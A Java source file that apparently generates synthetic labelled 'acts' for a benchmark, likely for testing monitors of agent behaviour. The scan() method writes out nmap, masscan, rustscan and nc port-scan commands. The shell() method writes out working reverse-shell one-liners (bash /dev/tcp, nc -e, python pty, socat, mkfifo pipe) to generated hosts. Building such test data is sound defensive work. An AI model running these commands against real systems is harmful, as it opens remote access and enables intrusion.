package dev.offscript.benchmarks.verdicts.acts;

import dev.offscript.benchmarks.verdicts.acts.Act.Contact;
import dev.offscript.benchmarks.verdicts.world.Dice;
import dev.offscript.benchmarks.verdicts.world.Part;
import dev.offscript.benchmarks.verdicts.world.Turn;
import dev.offscript.model.Behaviour;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** Looking at other hosts, and handing a shell to one. */
final class Probes {

  private Probes() {}

  static Act scan(Dice dice) {
    String net = Places.network(dice);
    String prefix = net.substring(0, net.length() - 4);
    Map<String, String> slots = new TreeMap<>();
    slots.put("net", net);
    slots.put("othernet", Places.network(dice));
    String tool = dice.any("nmap", "nmap", "masscan", "rustscan", "nc");
    slots.put("tool", tool);
    String line =
        switch (tool) {
          case "nmap" ->
              dice.any(
                      "nmap -sS -p 22,80,443,3306 ",
                      "nmap -sT -T4 --top-ports 100 ",
                      "nmap -Pn -p- --open ")
                  + net;
          case "masscan" -> "masscan " + net + " -p22,80,443 --rate 1000";
          case "rustscan" -> "rustscan -a " + net + " -p 22,80,443";
          default ->
              "for i in $(seq 1 254); do nc -z -w1 "
                  + prefix
                  + "$i 22 && echo "
                  + prefix
                  + "$i; done";
        };
    List<Contact> contacts = new ArrayList<>();
    int hosts = dice.between(8, 20);
    for (int i = 0; i < hosts; i++) {
      contacts.add(
          new Contact(
              prefix + (2 + i * 7), "", dice.any(22, 80, 443), 0.05, 60, dice.chance(30) ? 40 : 0));
    }
    return new Act(
        Behaviour.SCANNING,
        "scan",
        tool,
        "",
        0,
        slots,
        line,
        List.of(),
        new Turn.Command(
            Part.ACT,
            line,
            "Nmap scan report for " + prefix + "2\n22/tcp open ssh",
            0,
            dice.fraction(4, 20)),
        List.of(),
        List.copyOf(contacts));
  }

  static Act shell(Dice dice) {
    Tunnels.Far far = Tunnels.Far.of(dice);
    int port = dice.any(4444, 9001, 443, 1337, 5555);
    Map<String, String> slots = far.slots(dice);
    slots.put("port", Integer.toString(port));
    String to = far.host();
    String tool = dice.any("bash", "bash", "nc", "python", "socat", "fifo");
    String line =
        switch (tool) {
          case "bash" ->
              dice.any(
                  "bash -i >& /dev/tcp/" + to + "/" + port + " 0>&1",
                  "bash -c 'bash -i >& /dev/tcp/" + to + "/" + port + " 0>&1 &'");
          case "nc" -> "nc -e /bin/sh " + to + " " + port;
          case "python" ->
              "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\""
                  + to
                  + "\","
                  + port
                  + "));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'";
          case "socat" ->
              "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:" + to + ":" + port;
          default ->
              "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc "
                  + to
                  + " "
                  + port
                  + " > /tmp/f";
        };
    String program = tool.equals("fifo") ? "nc" : tool;
    slots.put("tool", program);
    return new Act(
        Behaviour.REVERSE_SHELL,
        "shell",
        program,
        to,
        port,
        slots,
        line,
        List.of(),
        new Turn.Command(Part.ACT, line, "", 0, dice.fraction(1, 5), true),
        List.of(),
        List.of(
            new Contact(
                far.address(),
                far.name(),
                port,
                dice.fraction(20, 400),
                dice.between(2_000, 40_000),
                dice.between(2_000, 40_000))));
  }
}
